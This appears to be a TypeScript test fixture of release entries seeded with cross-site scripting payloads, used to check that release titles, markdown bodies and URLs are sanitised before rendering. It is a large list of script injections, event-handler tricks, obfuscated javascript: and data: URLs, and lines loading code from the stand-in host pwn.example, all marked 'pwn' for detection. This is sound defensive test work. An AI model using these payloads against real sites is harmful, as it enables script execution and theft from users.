// Releases whose titles, bodies and URLs try to become part of a page. Every payload contains the word `pwn`, so that a
// test can recognize it.

interface HostileRelease {
  title: string;
  content: string;
  url: string;
}

const CALL = 'alert(`pwn`)';

// Elements and attributes that run, load, submit or change something.
const MARKUP: readonly string[] = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//pwn.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script >`,
  `</script><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<img src=x onerror=${CALL}>`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}"//>`,
  `<img/src="x"/onerror=${CALL}>`,
  `<img src=x:x onerror\t=${CALL}>`,
  `<img srcset="javascript:${CALL} 1x, https://pwn.example/a.png 2x">`,
  `<image src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>pwn</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${CALL}"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='pwn'/>#pwn"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CALL}">pwn</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<frameset><frame src="//pwn.example"></frameset>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<applet code="pwn"></applet>`,
  `<base href="//pwn.example/">`,
  `<link rel=stylesheet href="//pwn.example/x.css">`,
  `<link rel=preload as=script href="//pwn.example/x.js">`,
  `<meta http-equiv=refresh content="0;url=//pwn.example">`,
  `<meta http-equiv="Content-Security-Policy" content="pwn">`,
  `<style>@import "//pwn.example/x.css";</style>`,
  `<style>body{background:url(//pwn.example)}</style>`,
  `<p style="background:url(//pwn.example)">pwn</p>`,
  `<div class="pwn head" id="pwn">pwn</div>`,
  `<p id="main" class="pwn">pwn</p>`,
  `<form action="//pwn.example"><input name=pwn><button>pwn</button></form>`,
  `<form id=pwn></form><button form=pwn formaction="javascript:${CALL}">pwn</button>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>pwn</select>`,
  `<textarea autofocus onfocus=${CALL}>pwn</textarea>`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<details open ontoggle=${CALL}><summary>pwn</summary></details>`,
  `<video><source onerror=${CALL}></video>`,
  `<video src="javascript:${CALL}" poster="javascript:${CALL}" autoplay></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<body onload=${CALL}>`,
  `<html onmouseover=${CALL}>`,
  `<marquee onstart=${CALL}>pwn</marquee>`,
  `<a href="#" onclick=${CALL}>pwn</a>`,
  `<a href="//pwn.example" target=_blank ping="//pwn.example">pwn</a>`,
  `<a href=x style="position:fixed;inset:0">pwn</a>`,
  `<table background="javascript:${CALL}"><tr><td>pwn</td></tr></table>`,
  `<td background="javascript:${CALL}">pwn</td>`,
  `<xss-pwn onclick=${CALL}>pwn</xss-pwn>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<plaintext>pwn`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<portal src="//pwn.example"></portal>`,
  `</div></article></main></body></html><h1>pwn</h1>`,
  `</main><main data-page="pwn"><h1>pwn</h1>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `<\u0008script>${CALL}</script>`,
  `<a\u000bhref="javascript:${CALL}">pwn</a>`,
  `\u202e<script>${CALL}</script>\u2028`,
  `\${${CALL}} {{${CALL}}} <%= ${CALL} %>`,
  `<a href='x' a="'onmouseover=${CALL}">pwn</a>`,
  `<p title="&quot; onmouseover=${CALL} x=&quot;">pwn</p>`,
];

// URLs that run script, or that only look like web URLs.
const ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\u0008script:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6a;&#x61;vascript:${CALL}`,
  `javascript%3A${CALL}`,
  `javascript://pwn.example/%0a${CALL}`,
  `vbscript:msgbox("pwn")`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd248L3NjcmlwdD4=#pwn`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:https://pwn.example/1`,
  `file:///etc/passwd#pwn`,
  `filesystem:https://pwn.example/x`,
  `about:blank#pwn`,
  `view-source:https://pwn.example`,
  `intent://pwn#Intent;end`,
  `ws://pwn.example/`,
  `ftp://pwn.example/x`,
  `//pwn.example/x`,
  `/\\pwn.example/x`,
  `https://pwn.example/"onmouseover=${CALL}//`,
  `https://pwn.example/'onmouseover=${CALL}//`,
  `https://pwn.example/><img src=x onerror=${CALL}>`,
  `https://pwn.example/</a><script>${CALL}</script>`,
  `https://user:pwn@registry.example@pwn.example/`,
  `https://pwn.example/\u202eexe.gpj`,
  `http://[::pwn`,
  `https:pwn`,
  `../../../pwn`,
  `?q=pwn"><script>${CALL}</script>`,
];

// Positions of text in markdown.
const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `## ${payload}\n\n> - ${payload}\n\n| a | b |\n| --- | --- |\n| ${payload.replaceAll('\n', ' ')} | b |`,
];

const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[pwn](${address}) ![pwn](${address}) <${address}> [pwn][1]\n\n[1]: ${address} "pwn"`,
  (address) =>
    `<a href="${address}" title="pwn">pwn</a> <img src="${address}"> <video src="${address}" poster="${address}" controls></video> <source srcset="${address} 2x">`,
];

export const HOSTILE_RELEASES: readonly HostileRelease[] = [
  ...MARKUP.flatMap((payload, index) =>
    PLACES.map((place) => ({
      title: `${payload} pwn`,
      content: place(payload),
      url: ADDRESSES[index % ADDRESSES.length] ?? '',
    })),
  ),
  ...ADDRESSES.flatMap((address) =>
    LINKS.map((link) => ({ title: `[pwn](${address}) \`<b>pwn</b>\``, content: link(address), url: address })),
  ),
];
